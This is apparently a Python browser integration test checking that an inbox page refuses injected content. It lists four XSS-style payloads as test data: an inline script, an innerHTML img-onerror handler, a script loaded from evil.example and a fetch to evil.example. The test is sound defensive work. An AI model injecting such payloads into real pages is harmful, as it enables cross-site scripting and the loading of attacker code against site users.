"""What a page of ours refuses, in a real browser."""

import pytest
from tests.integration.conftest import Founded

from .conftest import Sits

HARM = {
    "an inline script": "document.body.append(Object.assign(document.createElement('script'), "
    "{text: 'window.harmed = true'}))",
    "text as HTML": "document.body.innerHTML = '<img src=x onerror=\"window.harmed = true\">'",
    "a script from elsewhere": "document.body.append(Object.assign("
    "document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "a request to elsewhere": "fetch('https://evil.example/').then(() => window.harmed = true)",
}


@pytest.mark.parametrize("what", HARM)
async def test_a_page_refuses(person: Sits, found: Founded, what: str) -> None:
    ann = await person(await found(number=False))
    await ann.opens("/inbox")
    await ann.sees_the_page("Inbox")
    refused = await ann.run(
        "async harm => { try { await eval(harm) } catch (error) { return error.name } }",
        HARM[what],
    )
    assert await ann.run("window.harmed") is None
    assert refused or ann.problems
    ann.problems.clear()
